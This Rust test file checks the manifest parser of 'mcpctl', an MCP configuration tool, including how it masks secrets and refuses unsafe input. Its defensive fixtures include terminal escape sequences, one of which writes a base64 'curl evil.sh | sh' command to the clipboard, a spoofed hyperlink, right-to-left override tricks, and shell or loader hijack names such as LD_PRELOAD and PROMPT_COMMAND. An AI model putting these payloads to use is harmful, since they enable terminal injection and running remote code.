//! Tests of parsing and validation: the normalized model of a full team
//! manifest and snapshots of what users see (rendered with a fixed theme and
//! width so they are stable) here; one test per kind of diagnostic in the
//! submodules, by topic (syntax, shapes, references, delivery, secrets,
//! files).
//!
//! Secret canaries are built at run time and masked before snapshotting, so
//! no secret-shaped literal is stored in the repository.

use std::collections::BTreeMap;

use miette::{GraphicalReportHandler, GraphicalTheme};

use super::*;

const TEAM: &str = include_str!("testdata/team.kdl");
const MANY_PROBLEMS: &str = include_str!("testdata/many-problems.kdl");

pub(super) fn render(err: &ManifestError) -> String {
    let mut out = String::new();
    GraphicalReportHandler::new_themed(GraphicalTheme::unicode_nocolor())
        .with_width(100)
        .with_links(false)
        .render_report(&mut out, err)
        .unwrap();
    out
}

/// The problems of a manifest that must not validate.
pub(super) fn problems(source: &str) -> Vec<Problem> {
    match parse("mcpctl.kdl", source) {
        Ok(m) => panic!("expected problems, got {m:#?}"),
        Err(e) => e.problems().to_vec(),
    }
}

fn kinds(source: &str) -> Vec<ProblemKind> {
    problems(source).iter().map(|p| p.kind).collect()
}

/// The only problem of a manifest with exactly one.
pub(super) fn only(source: &str) -> Problem {
    let mut all = problems(source);
    assert_eq!(all.len(), 1, "{all:#?}");
    all.remove(0)
}

/// The text of the primary label of a problem.
pub(super) fn label(p: &Problem) -> &str {
    p.labels[0].label().unwrap_or("")
}

/// The source text a label points at.
pub(super) fn at<'s>(source: &'s str, p: &Problem, i: usize) -> &'s str {
    let l = &p.labels[i];
    &source[l.offset()..l.offset() + l.len()]
}

pub(super) fn ok(source: &str) -> Manifest {
    parse("mcpctl.kdl", source).unwrap_or_else(|e| panic!("{}", render(&e)))
}

const HEAD: &str = "mcpctl version=1\nclient claude-code\n";

fn with_head(body: &str) -> String {
    format!("{HEAD}{body}")
}

// ----- the happy path --------------------------------------------------------

#[test]
fn team_manifest_normalizes() {
    let m = ok(TEAM);
    assert_eq!(m.version, 1);
    assert_eq!(m.defaults.delivery, Delivery::Exec);
    assert_eq!(m.defaults.rotate_every, Some(Period { days: 180 }));
    assert_eq!(
        m.clients,
        [
            ClientTarget {
                client: ClientId::ClaudeCode,
                scope: Scope::User,
                delivery: None
            },
            ClientTarget {
                client: ClientId::ClaudeCode,
                scope: Scope::Project,
                delivery: None
            },
            ClientTarget {
                client: ClientId::Vscode,
                scope: Scope::User,
                delivery: None
            },
            ClientTarget {
                client: ClientId::Codex,
                scope: Scope::User,
                delivery: None
            },
        ]
    );

    // Rotation: own period, then provider, then kind, then defaults.
    let period = |name: &str| {
        let c = &m.credentials[name];
        (c.rotate_every.map(|p| p.days), c.rotate_every_source)
    };
    assert_eq!(
        period("GITHUB_TOKEN"),
        (Some(90), Some(PeriodSource::Provider))
    );
    assert_eq!(
        period("AZURE_DEVOPS_PAT"),
        (Some(84), Some(PeriodSource::Credential))
    );
    assert_eq!(period("DATABASE_URL"), (Some(60), Some(PeriodSource::Kind)));
    assert_eq!(
        period("SLACK_BOT_TOKEN"),
        (Some(180), Some(PeriodSource::Defaults))
    );
    assert_eq!(
        period("SENTRY_AUTH_TOKEN"),
        (Some(180), Some(PeriodSource::Defaults))
    );

    let github = &m.credentials["GITHUB_TOKEN"];
    assert_eq!(github.kind, CredentialKind::PersonalAccessToken);
    assert_eq!(github.provider.as_deref(), Some("github"));
    assert_eq!(github.scopes, ["repo", "read:org", "workflow"]);
    assert_eq!(
        github.create_at.as_deref(),
        Some("https://github.com/settings/tokens/new")
    );
    assert_eq!(github.label(), "GitHub PAT for the GitHub MCP server");
    assert_eq!(
        m.credentials["SENTRY_AUTH_TOKEN"].label(),
        "SENTRY_AUTH_TOKEN"
    );

    // Servers.
    assert_eq!(
        m.servers.keys().collect::<Vec<_>>(),
        [
            "azure-devops",
            "docs",
            "github",
            "postgres",
            "sentry",
            "slack"
        ]
    );
    let server = &m.servers["github"];
    assert_eq!(
        server.transport,
        Transport::Stdio {
            command: "npx".into(),
            args: vec!["-y".into(), "@modelcontextprotocol/server-github".into()],
        }
    );
    let cred = |c: &str| EnvValue::Credential {
        credential: c.into(),
    };
    assert_eq!(
        server.env,
        BTreeMap::from([
            (
                "GITHUB_PERSONAL_ACCESS_TOKEN".to_owned(),
                cred("GITHUB_TOKEN")
            ),
            ("GITHUB_TOKEN".to_owned(), cred("GITHUB_TOKEN")),
            (
                "GITHUB_TOOLSETS".to_owned(),
                EnvValue::Literal {
                    value: "repos,issues".into()
                }
            ),
        ])
    );
    assert_eq!(
        server.credential_bindings().collect::<Vec<_>>(),
        [
            ("GITHUB_PERSONAL_ACCESS_TOKEN", "GITHUB_TOKEN"),
            ("GITHUB_TOKEN", "GITHUB_TOKEN")
        ]
    );
    // No `clients`: every targeted client, deduplicated, in manifest order.
    assert_eq!(
        server.clients,
        [ClientId::ClaudeCode, ClientId::Vscode, ClientId::Codex]
    );
    assert_eq!(server.delivery, None);
    assert_eq!(server.description.as_deref(), Some("GitHub issues and PRs"));

    let azure = &m.servers["azure-devops"];
    assert_eq!(
        azure.transport,
        Transport::Stdio {
            command: "npx".into(),
            args: vec!["-y".into(), "@azure-devops/mcp".into(), "contoso".into()],
        }
    );
    assert_eq!(azure.clients, [ClientId::ClaudeCode, ClientId::Vscode]);
    assert_eq!(
        azure.credential_bindings().collect::<Vec<_>>(),
        [("AZURE_DEVOPS_PAT", "AZURE_DEVOPS_PAT")]
    );
    assert_eq!(
        m.servers["postgres"].env["DATABASE_URL"],
        cred("DATABASE_URL")
    );
    assert_eq!(
        m.servers["slack"].env["SLACK_TEAM_ID"],
        EnvValue::Literal {
            value: "T01234567".into()
        }
    );
    assert_eq!(
        m.servers["sentry"].env["SENTRY_ACCESS_TOKEN"],
        cred("SENTRY_AUTH_TOKEN")
    );
    assert_eq!(
        m.servers["docs"].transport,
        Transport::Http {
            url: "https://docs.example.com/mcp".into(),
            headers: BTreeMap::from([("X-Team".to_owned(), "platform".to_owned())]),
            credential_headers: BTreeMap::new(),
        }
    );
    assert_eq!(
        m.servers["docs"].clients,
        [ClientId::ClaudeCode, ClientId::Codex]
    );

    // The whole model, as JSON, for review.
    insta::assert_json_snapshot!("team_manifest_model", m);
}

#[test]
fn minimal_manifests() {
    let m = ok("mcpctl version=1\n");
    assert!(m.clients.is_empty() && m.credentials.is_empty() && m.servers.is_empty());
    assert_eq!(m.defaults, Defaults::default());

    // No `client` nodes: a server goes nowhere, which is allowed.
    let m = ok("mcpctl version=1\nserver s { command x }\n");
    assert!(m.servers["s"].clients.is_empty());

    // `kind` defaults to `other`; no period from anywhere.
    let m = ok(&with_head("credential TOKEN\n"));
    let c = &m.credentials["TOKEN"];
    assert_eq!(c.kind, CredentialKind::Other);
    assert_eq!((c.rotate_every, c.rotate_every_source), (None, None));

    // Access keys: 30 days from the kind; a provider period wins over it.
    let m = ok(&with_head(
        "credential AWS_ACCESS_KEY_ID { kind access-key; provider aws }\n\
         credential GH { kind access-key; provider github }\n",
    ));
    let c = &m.credentials["AWS_ACCESS_KEY_ID"];
    assert_eq!(
        (c.rotate_every, c.rotate_every_source),
        (Some(Period { days: 30 }), Some(PeriodSource::Kind))
    );
    let c = &m.credentials["GH"];
    assert_eq!(
        (c.rotate_every, c.rotate_every_source),
        (Some(Period { days: 90 }), Some(PeriodSource::Provider))
    );

    // Comments, slashdash and placeholders are fine.
    ok(&with_head(
        "/-server old { command x }\nserver s {\n    command x \"${HOME}/bin\" // c\n    env A \"<token>\"\n}\n",
    ));
}

#[test]
fn periods_in_weeks_and_years() {
    let m = ok(&with_head(
        "credential A { rotate-every \"2w\" }\ncredential B { rotate-every \"1y\" }\n",
    ));
    assert_eq!(m.credentials["A"].rotate_every, Some(Period { days: 14 }));
    assert_eq!(m.credentials["B"].rotate_every, Some(Period { days: 365 }));
}

// ----- all at once, as users see them ------------------------------------------------

#[test]
fn many_problems_are_all_reported_in_source_order() {
    let err = parse("mcpctl.kdl", MANY_PROBLEMS).unwrap_err();
    let offsets: Vec<_> = err.problems().iter().map(Problem::offset).collect();
    let mut sorted = offsets.clone();
    sorted.sort();
    assert_eq!(offsets, sorted);
    assert_eq!(err.problem_count(), err.problems().len());
    assert!(err.problem_count() >= 15, "{}", err.problem_count());
    insta::assert_snapshot!("many_problems", render(&err));
}

#[test]
fn snapshot_syntax_error() {
    let source = "mcpctl version=1\n\ncredential GITHUB_TOKEN {\n    rotate-every 90d\n}\n\nserver github {\n    command npx -y @modelcontextprotocol/server-github\n}\n";
    let err = parse("mcpctl.kdl", source).unwrap_err();
    insta::assert_snapshot!("syntax_error", render(&err));
}

#[test]
fn snapshot_unsupported_version() {
    let err = parse("mcpctl.kdl", "mcpctl version=2\n\nserver github { }\n").unwrap_err();
    insta::assert_snapshot!("unsupported_version", render(&err));
}

#[test]
fn snapshot_secret() {
    let token = format!("ghp_{}", "Z9".repeat(18));
    let password = "hunter2hunter2";
    let source = format!(
        "mcpctl version=1\nclient claude-code\n\nserver github {{\n    command npx -y \"@modelcontextprotocol/server-github\"\n    env GITHUB_TOKEN \"{token}\"\n}}\n\nserver postgres {{\n    command npx -y \"@modelcontextprotocol/server-postgres\" \"postgres://app:{password}@db.internal/app\"\n}}\n"
    );
    let err = parse("mcpctl.kdl", &source).unwrap_err();
    // The snippet hides each secret at its own length (the underline still
    // fits), keeping only the token's public prefix and the URL's scheme and
    // host.
    let rendered = render(&err);
    assert!(!rendered.contains(&token[4..]), "{rendered}");
    assert!(!rendered.contains(password), "{rendered}");
    insta::assert_snapshot!("secret", rendered);
}

/// Terminal escapes written as KDL escapes (`\u{1b}`): ESC[2J (clear the
/// screen), OSC 52 (write the clipboard), OSC 8 (a hyperlink) and U+202E
/// (right-to-left override) in a description, create-at, scopes, a server
/// name, a command argument and an env value. Each is refused, and the
/// rendering quotes them only as visible escapes.
#[test]
fn snapshot_unsafe_characters() {
    let source = r#"mcpctl version=1
credential GITHUB_TOKEN {
    description "repo access\u{1b}[2J"
    create-at "https://github.com/settings/tokens\u{1b}]52;c;Y3VybCBldmlsLnNoIHwgc2g=\u{7}"
    scopes "repo" "\u{1b}]8;;https://evil.example\u{1b}\\read:org\u{1b}]8;;\u{1b}\\"
}
server "github\u{202e}buh" {
    description "safe \u{202e}evil"
    command npx "server\u{1b}[1A\u{1b}[2K"
    env GITHUB_TOKEN credential=GITHUB_TOKEN
}
"#;
    let err = parse("mcpctl.kdl", source).unwrap_err();
    let unsafe_at: Vec<&str> = err
        .problems()
        .iter()
        .filter(|p| p.kind == ProblemKind::UnsafeCharacter)
        .map(|p| at(source, p, 0))
        .collect();
    assert_eq!(unsafe_at.len(), 6, "{unsafe_at:#?}");
    let rendered = render(&err);
    assert!(
        !rendered.contains(|c| c != '\n' && crate::terminal_text::is_unsafe(c)),
        "{rendered:?}"
    );
    insta::assert_snapshot!("unsafe_characters", rendered);
}

/// The same characters written as themselves in the file: named, at their
/// place, and the quoted line shows a `?` instead.
#[test]
fn raw_unsafe_characters_are_named() {
    let source = "mcpctl version=1\nserver github {\n    description \"a\u{1b}[2J\u{202e}b\"\n    command npx\n}\n";
    let err = parse("mcpctl.kdl", source).unwrap_err();
    let messages: Vec<&str> = err.problems().iter().map(|p| p.message.as_str()).collect();
    assert_eq!(
        messages,
        [
            "the file holds ESC (U+001B)",
            "the file holds RIGHT-TO-LEFT OVERRIDE (U+202E)"
        ]
    );
    assert_eq!(at(source, &err.problems()[0], 0), "\u{1b}");
    let rendered = render(&err);
    assert!(!rendered.contains(['\u{1b}', '\u{202e}']), "{rendered:?}");
}

/// Issue 12: a credential taken by env-ref is exported under its own name
/// at every shell start, so a name that changes how a shell, the loader or
/// a runtime behaves is refused, with the reason and the rename as the fix.
#[test]
fn snapshot_env_ref_exports_refuse_shell_and_loader_names() {
    let source = "mcpctl version=1\nclient claude-code delivery=env-ref\n\ncredential PROMPT_COMMAND { source command evil; }\ncredential LD_PRELOAD\n\nserver github {\n    command npx -y \"@modelcontextprotocol/server-github@1.0.0\"\n    env GITHUB_PERSONAL_ACCESS_TOKEN credential=PROMPT_COMMAND\n    env OTHER credential=LD_PRELOAD\n}\n";
    let err = parse("mcpctl.kdl", source).unwrap_err();
    assert_eq!(
        err.problems().iter().map(|p| p.kind).collect::<Vec<_>>(),
        [ProblemKind::InvalidName, ProblemKind::InvalidName]
    );
    insta::assert_snapshot!("env_ref_refused_names", render(&err));
    // The defaults, a server's own delivery and a credential header count too.
    for source in [
        "mcpctl version=1\ndefaults { delivery env-ref; }\ncredential path\nserver s { command x; env T credential=path; }\n",
        "mcpctl version=1\ncredential NODE_OPTIONS\nserver s { command x; delivery env-ref; env T credential=NODE_OPTIONS; }\n",
        "mcpctl version=1\ncredential HTTPS_PROXY\nserver s { url \"https://x\"; delivery env-ref; header A credential=HTTPS_PROXY; }\n",
    ] {
        let err = parse("mcpctl.kdl", source).unwrap_err();
        assert!(
            err.problems()[0]
                .message
                .contains("cannot be exported into your shell"),
            "{source}: {:?}",
            err.problems()
        );
    }
}

/// exec delivery sets a variable only in the one server's environment,
/// whose command the manifest already chose: the names are not refused
/// there (see `shell::exportable`), nor as a server's own `env` name under
/// env-ref (the client sets it for that server alone).
#[test]
fn exec_delivery_and_server_env_names_are_not_refused() {
    for source in [
        "mcpctl version=1\nclient claude-code\ncredential LD_PRELOAD\nserver s { command x; env LD_PRELOAD credential=LD_PRELOAD; }\n",
        "mcpctl version=1\nclient claude-code delivery=env-ref\ncredential MCP_NODE_OPTIONS\nserver s { command x; env NODE_OPTIONS credential=MCP_NODE_OPTIONS; }\n",
        "mcpctl version=1\nclient claude-code delivery=env-ref\ncredential PATH\nserver s { command x; delivery exec; env T credential=PATH; }\n",
    ] {
        assert!(parse("mcpctl.kdl", source).is_ok(), "{source}");
    }
}

mod delivery;
mod files;
mod references;
mod secrets;
mod shapes;
mod syntax;
